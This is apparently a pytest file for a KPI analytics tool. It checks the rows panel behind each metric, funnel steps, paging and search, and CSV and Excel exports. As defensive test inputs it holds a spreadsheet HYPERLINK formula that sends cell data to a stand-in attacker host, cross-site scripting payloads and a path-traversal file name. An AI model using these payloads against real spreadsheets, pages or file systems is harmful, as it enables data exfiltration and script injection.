"""Rows behind a number, live: exactly those counted, in the order asked for, and the same in the files they become."""

from __future__ import annotations

import csv
import re
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from kpitools.analyses.funnel import deals_of_step, funnel
from kpitools.analyses.funnel_steps import RULES
from kpitools.analyses.outcomes import OUTCOMES
from kpitools.errors import ReportError, UnknownNameError
from kpitools.evaluation.evaluate import evaluate
from kpitools.evaluation.rows import rows, rows_seen
from kpitools.explore.rows import Rows
from kpitools.explore.rows_export import file_name
from kpitools.explore.rows_listing import LONGEST, PAGE, Asked, Listing
from kpitools.explore.rows_sources import Number, rows_of_step
from kpitools.formats import harmless
from kpitools.kpis.catalogue import CATALOGUE
from kpitools.model.dataset import Dataset
from kpitools.model.slice import Slice
from kpitools.pages import Page, View
from kpitools.pages.place import WAITING
from kpitools.tables import files
from kpitools.tables.files import write_csv, write_xlsx
from tests.small import dataset

LINK = '=HYPERLINK("https://evil.example?"&A1)'
SLICES = ["period=2026Q3", "team=Nordics&period=2026Q3", "team=DACH&period=2025",
          "period=2026Q2&as_of=2026-05-15", "rep=Freya+Tanaka&period=2026Q3"]  # fmt: skip
#: What a row of one of the tables is worth to a KPI, in SQL over those rows.
WORTH = {
    "win_rate": ("deals", "100.0 * count(*) filter (numerator) / count(*) filter (denominator)"),
    "average_deal_size": ("deals", "avg(amount) filter (size)"),
    "monthly_recurring_revenue": ("subscriptions", "sum(mrr)"),
    "employee_satisfaction": ("surveys", "100 * avg(score / scale_max) filter (score_counted)"),
}


def opened(data: Dataset, chosen: str, *numbers: Number | str) -> tuple[Page, Rows]:
    page = Page(View.of(data, Slice.parse(chosen)), interactive=True)
    panel = Rows(page, numbers)
    panel.toggle.value = True
    return page, panel


def shown(panel: Rows) -> list[str]:
    """The names of the rows in sight."""
    return re.findall(r'<th scope="row">([^<]*)</th>', panel.shown.value)


def said(widget) -> str:
    return re.sub("<[^>]*>", "", widget.value)


# ---- which rows


@pytest.mark.parametrize("chosen", SLICES)
@pytest.mark.parametrize("kpi", ["win_rate", "pipeline_value", "pipeline_coverage_ratio", "lead_conversion_rate"])
def test_the_panel_has_exactly_the_rows_that_are_counted(data: Dataset, chosen: str, kpi: str):
    page, panel = opened(data, chosen, kpi)
    expected = rows_seen(CATALOGUE[kpi], page.view.data, page.view.period.text)
    assert [value for _, value in panel.table.options] == list(expected)
    for table, frame in expected.items():
        panel.table.value = table
        key = frame.columns[0]
        assert sorted(panel.listing.rows()[key]) == sorted(frame[key])
        assert set(shown(panel)) <= set(frame[key])
        assert len(shown(panel)) == min(PAGE, frame.height)


@pytest.mark.parametrize("chosen", SLICES)
def test_as_many_rows_are_counted_in_each_input_as_the_figure_says(data: Dataset, chosen: str):
    page, panel = opened(data, chosen, "win_rate")
    view = page.view
    figure = evaluate("win_rate", view.data, periods=view.period.text, as_of=view.as_of).frame.row(0, named=True)
    for name in ("numerator", "denominator"):
        panel.counted.value = name
        assert panel.listing.found == figure[name]
        assert panel.listing.rows()[name].all()
    panel.counted.value = ""
    assert panel.listing.found == figure["denominator"]


@pytest.mark.parametrize("kpi", WORTH)
def test_the_rows_make_the_figure(data: Dataset, kpi: str):
    table, worth = WORTH[kpi]
    database = duckdb.connect()
    database.register("found", rows(kpi, data, "period=2026Q3")[table])
    [(value,)] = database.sql(f"select {worth} from found").fetchall()
    assert value == pytest.approx(evaluate(kpi, data, periods="2026Q3").frame["value"].item())


def test_the_rows_are_those_that_sql_finds_in_the_files(tmp_path: Path, sample, data: Dataset):
    for name in ("deals", "reps"):
        sample[name].write_parquet(tmp_path / f"{name}.parquet")
    closed = duckdb.sql(f"""
        select deal_id, status = 'won' as won from '{tmp_path}/deals.parquet' d
        join '{tmp_path}/reps.parquet' r on d.owner_rep_id = r.rep_id
        where r.team = 'Nordics' and status in ('won', 'lost')
          and closed_at >= timestamp '2026-07-01' and closed_at < timestamp '2026-10-01'""").fetchall()
    _, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    assert set(panel.listing.rows()["deal_id"]) == {deal for deal, _ in closed}
    panel.counted.value = "numerator"
    assert set(panel.listing.rows()["deal_id"]) == {deal for deal, won in closed if won}
    assert said(panel.headline).endswith(f"%, from {len(closed)} rows of deals")


def test_an_input_called_like_a_column_of_its_table_hides_neither():
    data = dataset("""
        subscriptions: subscription_id account_id mrr starts_on ends_on
        a A 10 2026-01-01 -
        b B 20 2026-01-01 2026-02-01
        c C 40 2026-12-01 -
    """)
    found = rows("monthly_recurring_revenue", data, "period=2026Q3")["subscriptions"]
    assert found.select("subscription_id", "mrr", "mrr_counted").rows() == [("a", 10.0, True)]


# ---- the steps of the funnel


@pytest.mark.parametrize("chosen", SLICES)
def test_as_many_deals_stand_behind_each_step_as_entered_it(data: Dataset, chosen: str):
    view = View.of(data, Slice.parse(chosen))
    steps = funnel(view.data, period=view.period, as_of=view.as_of)
    counts = ("entered", "still_open", "lost", "skipped")
    for step in steps.iter_rows(named=True):
        deals = rows_of_step(view, step["stage"])["deals"]
        assert deals["deal_id"].n_unique() == deals.height
        assert [deals.height, *(deals[name].sum() for name in counts[1:])] == [step[name] for name in counts]
    onward = [rows_of_step(view, stage)["deals"]["went_on"].sum() for stage in steps["stage"]]
    assert onward == [*steps["entered"][1:], 0]


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("reopened", OUTCOMES)
@pytest.mark.parametrize("within", [None, 60])
def test_they_do_by_every_rule(data: Dataset, rule: str, reopened: str, within: int | None):
    asked = {"period": "2026Q1", "as_of": "2026-08-10", "rule": rule, "reopened": reopened, "within": within}
    before = None
    for step in funnel(data, **asked).iter_rows(named=True):
        deals = deals_of_step(data, step["stage"], **asked)
        assert deals.height == step["entered"]
        parts = ("went_on", "still_open", "lost", "skipped")
        if step["stage"] != "Won":
            assert deals.select(pl.sum_horizontal(parts) == 1).to_series().all()
        assert before is None or set(deals["deal_id"]) == before
        before = set(deals.filter("went_on")["deal_id"])
    assert before == set()


def test_a_step_that_there_is_not_names_those_there_are(data: Dataset):
    with pytest.raises(UnknownNameError, match=r"no step of the funnel 'Wonn'\. Did you mean 'Won'"):
        deals_of_step(data, "Wonn", period="2026Q3")
    _, panel = opened(data, "period=2026Q3", "win_rate", Number.of_step("Wonn"))
    panel.number.value = panel.number.options[1][1]
    assert "Did you mean &#x27;Won&#x27;?" in panel.said.value
    assert (panel.listing, panel.shown.value, panel.csv.disabled) == (None, "", True)


def test_any_rows_can_be_opened(data: Dataset):
    owned = Number("Deals of R010", lambda view: {"deals": view.data["deals"].filter(owner_rep_id="R010").collect()})
    _, panel = opened(data, "period=2026Q3", owned)
    own = data["deals"].filter(pl.col("owner_rep_id") == "R010").collect()
    assert said(panel.headline) == f"Deals of R010, from {own.height} rows of deals"
    assert panel.counted.layout.display == "none"


# ---- following the page


def test_nothing_is_looked_for_while_the_panel_is_shut(data: Dataset):
    asked: list[str] = []

    def found(view: View) -> dict[str, pl.DataFrame]:
        asked.append(str(view.slice.where))
        return {"deals": view.data["deals"].collect()}

    page = Page(View.of(data, Slice.parse("period=2026Q3")), interactive=True)
    panel = Rows(page, [Number("Deals", found)])
    page.follow(page.of(Slice.parse("team=Nordics&period=2026Q3")))
    assert asked == []
    panel.toggle.value = True
    assert len(asked) == 1
    assert "Nordics" in asked[0]
    panel.toggle.value = False
    panel.toggle.value = True
    assert len(asked) == 1
    page.follow(page.of(Slice.parse("team=DACH&period=2026Q3")))
    assert len(asked) == 2
    assert "DACH" in asked[1]


def test_a_number_chosen_from_elsewhere_is_looked_for_when_the_panel_is_opened(data: Dataset):
    page = Page(View.of(data, Slice.parse("period=2026Q3")), interactive=True)
    panel = Rows(page, ["win_rate", Number.of_step("Proposal")])
    panel.number.value = panel.number.options[1][1]
    assert panel.listing is None
    panel.toggle.value = True
    steps = funnel(page.view.data, period="2026Q3", as_of=page.view.as_of)
    entered = steps.filter(stage="Proposal")["entered"].item()
    assert said(panel.headline) == f"Deals that entered Proposal, from {entered} rows of deals"


def test_rows_found_for_what_nobody_waits_for_any_more_are_not_shown(data: Dataset):
    page, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate", "pipeline_value")
    other = page.of(Slice.parse("team=DACH&period=2026Q3"))
    panel.follow(other)
    assert (said(panel.said), panel.csv.disabled, said(panel.range)) == ("Looking for the rows …", True, "")
    assert WAITING in panel.shown._dom_classes
    slow = panel.later(other)
    found = slow.make()
    panel.number.value = panel.number.options[1][1]  # which looks for it at once
    expected = said(panel.headline)
    assert expected.startswith("Pipeline value")
    assert WAITING not in panel.shown._dom_classes
    slow.show(found)
    assert said(panel.headline) == expected
    panel.follow(page.view)
    panel.later(other).show(found)
    assert said(panel.headline) == ""
    panel.search.value = "won"  # the work was stopped: whatever is asked next looks for them
    assert said(panel.headline) != ""


def test_what_was_asked_for_stays_when_the_slice_changes(data: Dataset):
    page, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    panel.counted.value, panel.by.value, panel.order.value, panel.search.value = "numerator", "status", False, "won"
    panel.next.click()
    page.follow(page.of(Slice.parse("team=DACH&period=2026Q3")))
    view = page.view
    won = evaluate("win_rate", view.data, periods=view.period.text, as_of=view.as_of).frame["numerator"].item()
    assert (panel.counted.value, panel.by.value, panel.search.value) == ("numerator", "status", "won")
    assert said(panel.range) == f"Rows 1 to {min(PAGE, int(won))} of {won:.0f}"


def test_a_slice_without_rows_says_so(data: Dataset):
    page, panel = opened(data, "period=2026Q3", "win_rate")
    page.follow(View.of(data, Slice.parse("period=2019Q1&as_of=2026-09-30")))
    assert (said(panel.range), shown(panel)) == ("No row", [])
    assert "No data" in panel.shown.value
    assert said(panel.headline) == "Win rate: –, from 0 rows of deals"
    assert all(button.disabled for button in (panel.previous, panel.next, panel.csv, panel.xlsx))


def test_headless_shows_nothing(data: Dataset, capsys):
    Rows(Page(View.of(data, Slice.parse("period=2026Q3")), interactive=False), ["win_rate"]).show()
    assert capsys.readouterr().out == ""


# ---- the order, the search, the pages

FRAME = pl.DataFrame(
    {
        "deal_id": ["a", "b", "c", "d", "e"],
        "name": ["Zebra", "apple", None, "Éclair", "apple"],
        "amount": [1234.5, None, 7.0, float("nan"), 90.0],
        "closed_at": [datetime(2026, 9, 30, 12), None, datetime(2026, 10, 1), datetime(2025, 9, 3), None],
        "kind": pl.Series(["new", None, "new", "more", "more"], dtype=pl.Categorical),
        "counted": [True, True, False, False, True],
    }
)


def listed(**asked: object) -> str:
    listing = Listing(FRAME, ["counted"])
    listing.ask(**asked)
    return "".join(listing.rows()["deal_id"])


@pytest.mark.parametrize(("asked", "expected"), [
    ({}, "aecbd"),
    ({"by": "amount", "descending": False}, "ceabd"),
    ({"by": "name", "descending": False}, "beadc"),
    ({"by": "name"}, "dabec"),
    ({"by": "closed_at", "descending": False}, "dacbe"),
    ({"by": "kind", "descending": False}, "deacb"),
    ({"by": "kind", "counted": "counted"}, "aeb"),
    ({"by": "deal_id", "search": " APPLE "}, "eb"),
    ({"by": "deal_id", "search": "éc"}, "d"),
    ({"by": "deal_id", "search": "30 Sep 2026"}, "a"),
    ({"by": "deal_id", "search": "2026-"}, "ca"),
    ({"by": "deal_id", "search": "1,23"}, "a"),
    ({"by": "deal_id", "search": "234.5"}, "a"),
    ({"by": "deal_id", "search": ".*"}, ""),
    ({"by": "deal_id", "search": "new", "counted": "counted"}, "a"),
])  # fmt: skip
def test_rows_are_found_and_sorted_with_what_has_no_value_last(asked, expected):
    assert listed(**asked) == expected


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(st.none(), st.integers(-9, 9)), max_size=70), st.booleans(), st.integers(0, 99))
def test_pages_hold_every_row_once_in_order(values: list[int | None], descending: bool, step: int):
    listing = Listing(pl.DataFrame({"id": range(len(values)), "value": values}, schema={"id": int, "value": int}))
    listing.ask(by="value", descending=descending)
    seen: list[dict] = []
    for _ in range(listing.last + 1):
        seen += listing.table("x").rows
        listing.turn(1)
    known = sorted((value for value in values if value is not None), reverse=descending)
    assert [row["value"] for row in seen] == known + [None] * (len(values) - len(known))
    assert sorted(row["id"] for row in seen) == list(range(len(values)))
    assert listing.page == listing.last
    listing.turn(-step)
    assert listing.page == max(listing.last - step, 0)


@pytest.mark.parametrize(("rows", "last"), [(0, 0), (1, 0), (20, 0), (21, 1), (40, 1), (41, 2)])
def test_the_last_page_is_never_empty(rows: int, last: int):
    assert Listing(pl.DataFrame({"id": range(rows)}, schema={"id": int})).last == last


def test_buttons_turn_pages_and_end_where_the_rows_do(data: Dataset):
    _, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    ranges = []
    for _ in range(3):
        ranges.append((said(panel.range), len(shown(panel)), panel.previous.disabled, panel.next.disabled))
        panel.next.click()
    assert ranges == [
        ("Rows 1 to 20 of 62", 20, True, False),
        ("Rows 21 to 40 of 62", 20, False, False),
        ("Rows 41 to 60 of 62", 20, False, False),
    ]
    assert (said(panel.range), panel.next.disabled) == ("Rows 61 to 62 of 62", True)
    panel.search.value = "no such thing"
    assert (said(panel.range), panel.previous.disabled, panel.next.disabled) == ("No row fits", True, True)
    panel.search.value = ""
    assert said(panel.range) == "Rows 1 to 20 of 62"


# ---- the page: a table to be read, in which no text is code


def test_hostile_names_are_text():
    name = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    data = dataset("deals: deal_id status closed_at amount\na won 2026-07-01 1")
    frame = data["deals"].with_columns(deal_id=pl.lit(name), name=pl.lit("\"'><b>" + "W" * 9999)).collect()
    page, panel = opened(data, "period=2026Q3", Number(name, lambda view: {name: frame}))
    for widget in (panel.headline, panel.shown, panel.range, panel.said):
        assert not re.search(r"<(script|img|b)\b", widget.value)
    assert "&lt;script&gt;" in panel.shown.value
    assert "&lt;script&gt;" in panel.headline.value
    assert "W" * LONGEST not in panel.shown.value
    assert page.view.whole is data


def test_the_table_has_a_caption_and_headings(data: Dataset):
    _, panel = opened(data, "period=2026Q3", "win_rate")
    html = panel.shown.value
    assert "<caption>Win rate: deals</caption>" in html
    assert [*re.findall(r'<th scope="col"[^>]*>([^<]*)</th>', html)][-1] == "Counted in"
    assert all(box.description for box in (panel.number, panel.table, panel.by, panel.order, panel.search))
    assert "role='status'" in panel.range.value


# ---- files

TYPED = pl.DataFrame(
    {
        LINK: [LINK, "a\r\nb;c,\"d\"", None, "x" * 40],
        "day": [date(2026, 7, 1), None, date(2000, 2, 29), date(1900, 3, 1)],
        "at": [datetime(2026, 7, 1, 13, 14, 15), None, datetime(2026, 1, 1), datetime(1999, 12, 31, 23, 59, 59)],
        "amount": [0.1, None, -5.0, 1e9],
        "count": [1, None, -3, 0],
        "won": [True, None, False, True],
    }
)  # fmt: skip


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def sheets(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name).decode() for name in packed.namelist()}


def test_a_csv_holds_the_rows_and_no_formula(tmp_path: Path):
    heads, first, *others = csv_cells(write_csv(TYPED, tmp_path / "new" / "rows.csv"))
    assert heads == [f"'{LINK}", "day", "at", "amount", "count", "won"]
    assert first == [f"'{LINK}", "2026-07-01", "2026-07-01 13:14:15", "0.1", "1", "true"]
    assert others[0] == ['a\r\nb;c,"d"', "", "", "", "", ""]
    assert (tmp_path / "new" / "rows.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_workbook_holds_typed_values_and_no_formula(tmp_path: Path):
    path = write_xlsx(TYPED, tmp_path / "rows.xlsx", title="Win rate: deals")
    found = pl.read_excel(path, schema_overrides={"day": pl.Date, "at": pl.Datetime("us"), "count": pl.Int64})
    assert_frame_equal(found, TYPED)
    parts = sheets(path)
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert not re.search("<f>|<hyperlink", sheet)
    styles = re.findall("<xf [^>]*>", parts["xl/styles.xml"].split("<cellXfs")[1])
    texts = re.findall(r'<c r="\w+" s="(\d+)" t="inlineStr">', sheet)
    assert len(texts) == len(TYPED.columns) + TYPED[LINK].count()
    assert all('quotePrefix="1"' in styles[int(style)] for style in texts)
    assert 't="b"' in sheet
    assert '<sheet name="Win rate deals"' in parts["xl/workbook.xml"]
    assert write_xlsx(TYPED, tmp_path / "again.xlsx", title="Win rate: deals").read_bytes() == path.read_bytes()


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=1))
def test_no_cell_of_a_csv_begins_as_a_formula_does(tmp_path_factory, texts: list[str]):
    path = write_csv(pl.DataFrame({"text": texts, "n": 0}), tmp_path_factory.mktemp("csv") / "rows.csv")
    found = [row[0] for row in csv_cells(path)[1:]]
    assert len(found) == len(texts)
    for text, cell in zip(texts, found, strict=True):
        assert cell in (text, f"'{text}")
        assert not cell.strip().startswith(("=", "+", "-", "@")) or re.fullmatch(r"[+-][0-9.,]+", cell)


def test_categories_are_made_harmless_too():
    frame = pl.DataFrame({"kind": pl.Series(["=1+1", "a"], dtype=pl.Categorical)})
    assert harmless(frame)["kind"].to_list() == ["'=1+1", "a"]


def test_what_excel_has_no_cell_for_is_text_or_left_out(tmp_path: Path):
    frame = pl.DataFrame({"id": [2**60], "day": [date(1850, 1, 1)], "share": [float("inf")], "long": ["x" * 40_000]})
    found = pl.read_excel(write_xlsx(frame, tmp_path / "rows.xlsx", title="x"))
    assert found.select("id", "day", "share").row(0) == (str(2**60), "1850-01-01", None)
    assert len(found["long"].item()) == 32_767


def test_a_file_is_written_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    old = write_csv(TYPED, tmp_path / "rows.csv").read_bytes()
    with pytest.raises(ReportError, match=r"these columns hold several: tags\. Leave them out"):
        write_csv(TYPED.with_columns(tags=pl.lit([1])), tmp_path / "rows.csv")
    monkeypatch.setattr(files, "MOST_ROWS", 4)
    with pytest.raises(ReportError, match=r"holds 3 rows; these are 4\. Narrow"):
        write_xlsx(TYPED, tmp_path / "rows.xlsx", title="x")
    monkeypatch.setattr(files, "_put_day", None)
    monkeypatch.setattr(files, "MOST_ROWS", 5)
    with pytest.raises(TypeError):  # in the middle of the sheet
        write_xlsx(TYPED, tmp_path / "rows.xlsx", title="x")
    assert [path.name for path in tmp_path.iterdir()] == ["rows.csv"]
    assert (tmp_path / "rows.csv").read_bytes() == old


def test_without_the_extra_csv_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: Dataset):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    _, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    panel.xlsx.click()
    assert said(panel.said) == "Excel workbooks need XlsxWriter: pip install &#x27;kpitools[xlsx]&#x27;."
    panel.csv.click()
    assert [path.suffix for path in Path("exports").iterdir()] == [".csv"]


def test_the_files_are_the_rows_asked_for_with_every_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: Dataset
):
    monkeypatch.chdir(tmp_path)
    page, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    panel.counted.value, panel.by.value, panel.order.value = "numerator", "deal_id", True
    panel.csv.click()
    panel.xlsx.click()
    stem = "win-rate_deals_numerator_team-nordics-period-2026q3-as-of-2026-09-30"
    assert sorted(path.name for path in Path("exports").iterdir()) == [f"{stem}.csv", f"{stem}.xlsx"]
    asked = rows_seen(CATALOGUE["win_rate"], page.view.data, "2026Q3")["deals"]
    asked = asked.filter("numerator").sort("deal_id", descending=True)
    found = pl.read_csv(f"exports/{stem}.csv", schema_overrides=dict(asked.schema))
    assert_frame_equal(found, asked)
    book = pl.read_excel(f"exports/{stem}.xlsx", infer_schema_length=None)
    assert book.columns == asked.columns
    assert book["deal_id"].to_list() == asked["deal_id"].to_list()
    assert book["amount"].to_list() == pytest.approx(asked["amount"].to_list())
    assert book["closed_at"].cast(pl.Date).to_list() == asked["closed_at"].cast(pl.Date).to_list()


def test_a_link_leads_to_the_file_and_a_small_one_is_on_the_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: Dataset
):
    monkeypatch.chdir(tmp_path)
    _, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    panel.csv.click()
    [output] = panel.saved.outputs
    stem = "win-rate_deals_team-nordics-period-2026q3-as-of-2026-09-30"
    assert f'href="exports/{stem}.csv"' in output["data"]["text/html"]
    assert f'download="{stem}.csv"' in output["data"]["text/html"]
    assert said(panel.said) == f"62 rows with all columns in exports/{stem}.csv"
    monkeypatch.setattr("kpitools.explore.rows_export.LARGEST", 10)
    panel.csv.click()
    assert "data:" not in panel.saved.outputs[0]["data"]["text/html"]
    panel.next.click()
    assert panel.saved.outputs == ()


def test_no_name_of_a_file_is_a_path_or_too_long_for_one():
    long = "../x\\" * 500
    name = file_name(long, long, Asked(long, long), long)
    assert re.fullmatch("[a-z0-9_-]{,240}", name)
    assert name != file_name(long, long, Asked(long, f"{long}y"), long)


def test_a_folder_that_cannot_be_written_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: Dataset):
    monkeypatch.chdir(tmp_path)
    Path("exports").write_text("a file where the folder should be")
    _, panel = opened(data, "team=Nordics&period=2026Q3", "win_rate")
    panel.csv.click()
    assert re.match(r"exports/win-rate_.*\.csv cannot be written: ", said(panel.said))
    assert panel.saved.outputs == ()
